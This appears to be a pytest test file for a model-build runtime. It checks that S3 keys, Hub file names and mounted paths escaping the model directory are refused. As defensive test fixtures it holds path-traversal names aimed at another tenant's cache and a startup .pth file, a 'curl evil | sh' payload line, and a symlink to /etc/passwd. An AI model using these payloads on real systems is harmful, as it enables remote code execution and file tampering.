"""Model sources are chosen by whoever controls the bucket, the Hub repository or the volume:
a build never writes (or reads) outside its model directory because of a name found there."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest

from kiln_runtime import build, cache, source
from kiln_runtime.errors import BadSpec
from kiln_runtime.spec import parse_build_spec

from ..support import fake_trtllm
from ..support.s3 import MemoryBucket

OWN_KEY, OTHER_KEY = "ab" * 32, "cd" * 32


def _published_entry(cache_dir: Path, key: str) -> bytes:
    entry = cache_dir / key / "engine"
    entry.mkdir(parents=True)
    engine = b"the other tenant's engine"
    (entry / "rank0.engine").write_bytes(engine)
    (cache_dir / key / cache.MANIFEST).write_text(json.dumps({"engineKey": key}))
    return engine


def _build_spec(tmp_path: Path, model_source: str) -> dict:
    return {"engineKey": OWN_KEY, "engineName": "tiny-0123456789",
            "model": {"source": model_source, "revision": "main"},
            "precision": "bf16", "kvCacheDtype": "bf16", "tensorParallel": 1, "pipelineParallel": 1,
            "gpuArch": "sm90", "toolchain": "tensorrt-llm==1.2.1",
            "limits": {"maxBatchSize": 8, "maxInputLen": 512, "maxSeqLen": 1024, "maxNumTokens": 1024,
                       "tokensPerBlock": 32},
            "cacheDir": str(tmp_path / "cache"), "workDir": str(tmp_path / "work")}


@pytest.mark.parametrize("hostile", [
    "models/tiny/../../cache/" + OTHER_KEY + "/engine/rank0.engine",   # another engine in the cache
    "models/tiny/../../home/.local/lib/python3.12/site-packages/evil.pth",  # code run at startup
    "models/tiny/sub/../../../cache/" + OTHER_KEY + "/engine/rank0.engine",
])
def test_an_s3_key_outside_the_model_directory_fails_the_build_and_writes_nothing(
        tmp_path, monkeypatch, hostile):
    model = fake_trtllm.tiny_model(tmp_path / "upload")
    objects = {f"models/tiny/{p.name}": p.read_bytes() for p in model.iterdir()}
    objects[hostile] = b"import os; os.system('curl evil | sh')\n"
    monkeypatch.setattr(source, "_s3_client", lambda: MemoryBucket("weights", objects))
    victim = _published_entry(tmp_path / "cache", OTHER_KEY)
    before = {p for p in tmp_path.rglob("*")}

    with pytest.raises(BadSpec) as refused:
        build.run_build(parse_build_spec(_build_spec(tmp_path, "s3://weights/models/tiny")),
                        out=io.StringIO())

    message = str(refused.value)
    assert message.startswith("model.source: the S3 object key in s3://weights ")
    assert "outside the model directory" in message and "\n" not in message
    assert (tmp_path / "cache" / OTHER_KEY / "engine" / "rank0.engine").read_bytes() == victim
    assert cache.complete_entry(tmp_path / "cache", OWN_KEY) is None
    written = {p for p in tmp_path.rglob("*")} - before
    # Only the build's own scratch directories and its lock; not one downloaded file anywhere.
    assert all(p.is_dir() or p.parent.name == ".locks" for p in written), sorted(written)


def test_an_s3_folder_placeholder_and_plain_keys_download_into_the_model_directory(tmp_path, monkeypatch):
    objects = {"models/tiny/": b"", "models/tiny/config.json": b"{}", "models/tiny/a/b.json": b"[]"}
    monkeypatch.setattr(source, "_s3_client", lambda: MemoryBucket("weights", objects))
    out = source.download("s3://weights/models/tiny", "main", tmp_path / "model")
    assert sorted(str(p.relative_to(out)) for p in out.rglob("*") if p.is_file()) == ["a/b.json", "config.json"]


def test_a_hub_file_name_outside_the_model_directory_is_refused_before_any_download(tmp_path, monkeypatch):
    import huggingface_hub

    names = ["config.json", "../../.local/lib/python3.12/site-packages/evil.pth.json"]
    monkeypatch.setattr(huggingface_hub.HfApi, "list_repo_files",
                        lambda self, repo_id, revision=None, **kw: list(names))

    def naive_snapshot(repo_id, revision, token, local_dir, allow_patterns):
        # What a huggingface_hub without its own file-name check does: local_dir / name.
        for name in names:
            target = Path(local_dir) / name
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text("{}")

    monkeypatch.setattr(huggingface_hub, "snapshot_download", naive_snapshot)
    with pytest.raises(BadSpec, match=r"^model.source: the Hugging Face file in org/model '\.\./\.\./"):
        source.download("hf://org/model", "main", tmp_path / "work" / "model")
    assert not (tmp_path / ".local").exists()


def test_a_mounted_source_must_stay_on_its_volume(tmp_path):
    model = fake_trtllm.tiny_model(tmp_path / "models" / "tiny")
    assert source.download(str(model), "main", tmp_path / "unused") == model
    # A path that climbs out of the mount, and a file on the volume linking outside it.
    with pytest.raises(BadSpec, match="the path .* resolves outside the model directory"):
        source.read_config(str(model) + "/../../../../../etc", "main")
    (model / "tokenizer.model").symlink_to("/etc/passwd")
    with pytest.raises(BadSpec, match=r"the file .*tokenizer.model' resolves outside"):
        source.download(str(model), "main", tmp_path / "unused")


def test_messages_quote_a_hostile_name_short_and_on_one_line(tmp_path):
    with pytest.raises(BadSpec) as refused:
        source.inside(tmp_path, "../" + "x\n" * 5000, "the S3 object key in s3://b")
    assert "\n" not in str(refused.value) and len(str(refused.value)) < 250
